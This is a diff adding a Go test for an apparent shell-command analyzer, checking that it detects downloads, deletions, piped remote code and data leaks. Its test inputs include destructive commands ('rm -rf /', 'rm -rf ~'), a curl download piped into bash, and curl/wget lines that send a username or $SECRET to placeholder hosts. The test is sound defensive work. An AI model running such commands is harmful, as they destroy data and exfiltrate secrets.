@@ -1146,3 +1146,30 @@ func TestNestingBudget(t *testing.T) {
 		t.Errorf("%d of %d evals analyzed", static, len(f.DynamicExec))
 	}
 }
+
+func TestMoreCarriers(t *testing.T) {
+	// [[ … ]] runs its substitutions.
+	f := run(t, `[[ -n "$(curl -s http://x.io/a)" ]] && echo up`)
+	if c := findCmd(f, "curl"); c == nil || !hasReach(c, "substitution") || findNet(f, "curl") == nil {
+		t.Errorf("[[ ]] substitution: %s", dump(f))
+	}
+	// flock -c and env -S carry shell strings.
+	f = run(t, `flock /tmp/l -c 'rm -rf /'; env -S 'rm -rf ~'`)
+	if findFile(f, "delete", "/") == nil || findFile(f, "delete", "~") == nil || len(f.DynamicExec) != 2 {
+		t.Errorf("flock/env -S: %s", dump(f))
+	}
+	// A group feeding a shell that downloads is remote code.
+	f = run(t, `{ echo set -e; curl -s http://x.io/a; } | bash`)
+	if d := findDyn(f, "pipe_interpreter"); d == nil || !d.Downloaded {
+		t.Errorf("group with download: %s", dump(f))
+	}
+	// Dynamic host inside an option value.
+	f = run(t, `curl --url=https://$(whoami).x.example.com/a`)
+	if n := findNet(f, "curl"); n == nil || n.Host != "x.example.com" || !n.DataInHost {
+		t.Errorf("--url=: %s", dump(f))
+	}
+	f = run(t, `wget -O- --post-data="k=$SECRET" http://x.io/u`)
+	if n := findNet(f, "wget"); n == nil || !n.Upload || len(f.Outputs) != 1 || f.Outputs[0].Vars[0] != "SECRET" {
+		t.Errorf("wget post-data: %s", dump(f))
+	}
+}
